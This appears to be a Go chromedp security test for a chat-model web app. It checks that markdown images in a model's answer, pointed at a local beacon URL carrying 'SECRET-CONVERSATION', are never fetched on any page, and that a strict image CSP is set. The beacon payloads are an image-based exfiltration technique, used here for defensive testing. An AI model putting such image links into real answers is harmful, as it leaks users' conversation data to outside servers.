package main

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// dotPNG is a 1×1 PNG: inline data, which pages may show.
const dotPNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

// beacon is a server that must never be asked for anything: it counts and
// names every request it gets.
type beacon struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
}

func newBeacon(tb testing.TB) *beacon {
	b := &beacon{}
	b.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b.mu.Lock()
		b.hits = append(b.hits, r.URL.String())
		b.mu.Unlock()
		w.Header().Set("Content-Type", "image/png")
	}))
	tb.Cleanup(b.Close)
	return b
}

func (b *beacon) requests() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.hits...)
}

// imageUpstream answers every chat request with markdown that points
// images at the beacon in every form (inline, raw HTML, reference, inside
// a link), plus one inline data image, streamed in small pieces.
func imageUpstream(tb testing.TB, beaconURL string) *httptest.Server {
	answer := "Here is the chart:\n\n" +
		"![chart](" + beaconURL + "/leak?src=inline&data=SECRET-CONVERSATION)\n\n" +
		`<img src="` + beaconURL + `/leak?src=raw-html">` + "\n\n" +
		"![ref image][beacon]\n\n" +
		"[![badge](" + beaconURL + "/leak?src=in-link)](https://example.test/)\n\n" +
		"A dot: ![dot](" + dotPNG + ")\n\n" +
		"[beacon]: " + beaconURL + "/leak?src=reference\n\n" +
		"done."
	chunk := func(delta string) string {
		return `data: {"id":"x","object":"chat.completion.chunk","created":1,"model":"img","choices":[{"index":0,"delta":` + delta + `,"finish_reason":null}]}` + "\n\n"
	}
	var body strings.Builder
	body.WriteString(chunk(`{"role":"assistant","content":""}`))
	for i := 0; i < len(answer); i += 7 {
		body.WriteString(chunk(fmt.Sprintf(`{"content":%q}`, answer[i:min(i+7, len(answer))])))
	}
	body.WriteString(`data: {"id":"x","object":"chat.completion.chunk","created":1,"model":"img","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}` + "\n\ndata: [DONE]\n\n")
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.Write([]byte(body.String()))
	}))
	tb.Cleanup(srv.Close)
	return srv
}

// watchCSP records, in every page the tab opens, each Content Security
// Policy violation (window.__csp).
func watchCSP(tb testing.TB, b *browser) {
	b.run(tb, chromedp.ActionFunc(func(ctx context.Context) error {
		_, err := page.AddScriptToEvaluateOnNewDocument(`window.__csp = [];
			document.addEventListener('securitypolicyviolation', e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));`).Do(ctx)
		return err
	}))
}

// remoteLoads lists what the page asks for outside its origin: src, srcset
// and poster attributes that are neither same-origin nor data:.
const remoteLoads = `[...document.querySelectorAll('[src], [srcset], [poster], image, use')].flatMap(e =>
	['src', 'srcset', 'poster', 'href', 'xlink:href'].map(a => e.getAttribute(a)).filter(Boolean)
		.filter(u => e.tagName !== 'A' && !/^data:/i.test(u.trim()) && new URL(u, location.href).origin !== location.origin)
		.map(u => e.tagName + ' ' + u))`

// pageFacts is what a page shows of the images: remote loads, CSP
// violations, the links that stand for remote images (in answers and
// previews of image inputs) and the inline dots shown.
type pageFacts struct {
	Remote     []string `json:"remote"`
	Violations []string `json:"violations"`
	Links      int      `json:"links"`
	BadLinks   int      `json:"badLinks"`
	Dots       int      `json:"dots"`
}

func facts(tb testing.TB, b *browser, scope string) pageFacts {
	tb.Helper()
	var f pageFacts
	js := fmt.Sprintf(`(() => {
		const scope = document.querySelector(%q) || document;
		const links = [...scope.querySelectorAll('a.md-image, a.thumb-link:not([hidden])')];
		return {
			remote: %s,
			violations: window.__csp || [],
			links: links.length,
			badLinks: links.filter(a => a.target !== '_blank' || !['noopener', 'noreferrer', 'nofollow'].every(r => a.relList.contains(r))).length,
			dots: [...scope.querySelectorAll('img')].filter(i => (i.getAttribute('src') || '').startsWith('data:image/png') && i.complete && i.naturalWidth === 1).length,
		};
	})()`, scope, remoteLoads)
	b.run(tb, chromedp.Evaluate(js, &f))
	return f
}

// checkPage asserts that a page loaded nothing remote, shows the answer's
// remote images as links that open a new tab, and shows inline images.
func checkPage(t *testing.T, b *browser, name, scope string, wantLinks, wantDots int) {
	t.Helper()
	f := facts(t, b, scope)
	t.Logf("%s: %+v", name, f)
	if len(f.Remote) > 0 {
		t.Errorf("%s: the page asks for remote resources: %v", name, f.Remote)
	}
	if len(f.Violations) > 0 {
		t.Errorf("%s: CSP violations (something tried to load): %v", name, f.Violations)
	}
	if f.Links < wantLinks || f.BadLinks > 0 {
		t.Errorf("%s: %d image links (want at least %d), %d not a new tab with noopener noreferrer nofollow", name, f.Links, wantLinks, f.BadLinks)
	}
	if f.Dots < wantDots {
		t.Errorf("%s: %d inline images shown, want at least %d", name, f.Dots, wantDots)
	}
}

// checkCSP asserts the policy's image directive on a response.
func checkCSP(t *testing.T, u string) {
	t.Helper()
	resp, err := http.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	csp := resp.Header.Get("Content-Security-Policy")
	if resp.StatusCode != http.StatusOK || !strings.Contains(csp, "; img-src 'self' data:;") {
		t.Errorf("GET %s: %d, CSP %q, want img-src 'self' data:", u, resp.StatusCode, csp)
	}
}

// TestBrowserRemoteImagesAreNeverFetched is finding 6 of the security
// review: an answer whose markdown points images at a beacon (inline,
// raw <img>, reference, inside a link), and a person's own remote image
// URL, must make no page fetch anything: not the live run panel, the
// history page, the live comparison, the comparison's history page, nor
// the share pages of the run and the comparison opened with no session.
// The beacon must receive zero requests.
func TestBrowserRemoteImagesAreNeverFetched(t *testing.T) {
	bc := newBeacon(t)
	up := imageUpstream(t, bc.URL)
	srv := startTestServer(t, map[string]string{"LOCAL_API_KEY": "sk-local-test"}, "--catalog", localCatalog(t, up.URL, "img"))
	base := srv.URL
	t.Cleanup(func() {
		if t.Failed() {
			t.Log(srv.Log.String())
		}
	})
	b := newBrowser(t)
	watchCSP(t, b)
	remoteImage := bc.URL + "/leak?src=form-image"

	// The form: a remote image URL gets a preview link, inline data a
	// thumbnail.
	b.run(t,
		chromedp.Navigate(base+"/?provider=local&model=img"),
		chromedp.WaitVisible(`[data-testid="run-button"]`, chromedp.ByQuery),
		htmxReady("#draft"),
		setValue(`[data-testid="message-content"]`, "Describe these images."),
		chromedp.Click(`[data-testid="add-image_urls"]`, chromedp.ByQuery),
		chromedp.Click(`[data-testid="add-image_urls"]`, chromedp.ByQuery),
		chromedp.Evaluate(fmt.Sprintf(`(() => { const [a, b] = document.querySelectorAll('input[name="image_urls.url"]');
			for (const [e, v] of [[a, %q], [b, %q]]) { e.value = v; e.dispatchEvent(new Event('input', {bubbles: true})); } })()`, remoteImage, dotPNG), nil),
		waitText(`[data-testid="curl"]`, "form-image"),
	)
	var preview struct {
		Href    string `json:"href"`
		Visible bool   `json:"visible"`
		Target  string `json:"target"`
		Rel     string `json:"rel"`
		Src     string `json:"src"`
	}
	b.run(t, chromedp.Evaluate(`(() => { const row = document.querySelector('input[name="image_urls.url"]').closest('[data-row]');
		const a = row.querySelector('[data-thumb-link]'), img = row.querySelector('[data-thumb]');
		return {href: (a && a.getAttribute('href')) || '', visible: !!a && !a.hidden, target: a ? a.target : '', rel: a ? a.rel : '',
			src: (img && img.getAttribute('src')) || ''}; })()`, &preview))
	if preview.Href != remoteImage || !preview.Visible || preview.Target != "_blank" || preview.Rel != "noopener noreferrer nofollow" || preview.Src != "" {
		t.Errorf("the remote image's preview: %+v", preview)
	}
	checkPage(t, b, "form", `[data-testid="draft-form"]`, 0, 1)

	// The live run panel.
	b.run(t,
		chromedp.Click(`[data-testid="run-button"]`, chromedp.ByQuery),
		waitText(`[data-testid="run-state"]`, "completed"),
		waitText(`[data-testid="answer"]`, "done."),
	)
	// (The reference is defined in a later block, so it resolves only
	// once the whole answer is rendered, in the history.)
	checkPage(t, b, "live run", `[data-testid="answer"]`, 1, 1)
	checkCSP(t, base+"/")

	// The run's history page: the answer, and the image inputs.
	b.run(t,
		chromedp.Click(`[data-testid="history-link"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`[data-testid="run-record"]`, chromedp.ByQuery),
		waitText(`[data-testid="record-answer"]`, "done."),
	)
	checkPage(t, b, "history run", `[data-testid="record-answer"]`, 2, 1)
	checkPage(t, b, "history run and prompt", `[data-testid="run-record"]`, 3, 2)
	var runURL string
	b.run(t, chromedp.Location(&runURL))

	// Share it; a fresh browser with no session opens the link.
	b.run(t,
		chromedp.Click(`[data-testid="share"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`[data-testid="share-url"]`, chromedp.ByQuery),
	)
	var runShare string
	b.run(t, text(`[data-testid="share-url"]`, &runShare))
	fresh := newBrowser(t)
	watchCSP(t, fresh)
	fresh.run(t,
		chromedp.Navigate(runShare),
		chromedp.WaitVisible(`[data-testid="run-record"]`, chromedp.ByQuery),
		waitText(`[data-testid="record-answer"]`, "done."),
	)
	checkPage(t, fresh, "shared run", `[data-testid="run-record"]`, 3, 2)
	checkCSP(t, runShare)

	// A comparison of two panes: live, in the history, shared.
	b.run(t,
		chromedp.Navigate(base+"/?provider=local&model=img"),
		chromedp.WaitVisible(`[data-testid="compare-link"]`, chromedp.ByQuery),
		chromedp.Click(`[data-testid="compare-link"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`[data-testid="compare-form"]`, chromedp.ByQuery),
		pick(`#sweep-field`, "temperature"),
		typeInto(`#sweep-values`, "0, 1"),
		chromedp.Click(`[data-testid="sweep-button"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`[data-testid="pane-2"]`, chromedp.ByQuery),
		chromedp.Click(`[data-testid="run-all"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`[data-testid="compare-runs"]`, chromedp.ByQuery),
		waitText(`[data-testid="pane-run-1"] [data-testid="run-state"]`, "completed"),
		waitText(`[data-testid="pane-run-2"] [data-testid="run-state"]`, "completed"),
		waitText(`[data-testid="pane-run-2"] [data-testid="answer"]`, "done."),
		chromedp.WaitVisible(`[data-testid="comparison-link"]`, chromedp.ByQuery),
	)
	checkPage(t, b, "live comparison", `[data-testid="compare-runs"]`, 2, 2)
	b.run(t,
		chromedp.Click(`[data-testid="comparison-link"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`[data-testid="share-comparison"]`, chromedp.ByQuery),
		waitText(`body`, "done."),
	)
	checkPage(t, b, "history comparison", `body`, 6, 2)
	b.run(t,
		chromedp.Click(`[data-testid="share-comparison"]`, chromedp.ByQuery),
		chromedp.WaitVisible(`#share-url-comparison`, chromedp.ByQuery),
	)
	var cmpShare string
	b.run(t, text(`#share-url-comparison`, &cmpShare))
	fresh.run(t,
		chromedp.Navigate(cmpShare),
		waitText(`body`, "done."),
	)
	checkPage(t, fresh, "shared comparison", `body`, 6, 2)
	checkCSP(t, cmpShare)

	if hits := bc.requests(); len(hits) != 0 {
		t.Errorf("the beacon received %d requests: %v", len(hits), hits)
	}
	b.noScriptErrors(t)
	fresh.noScriptErrors(t)
}
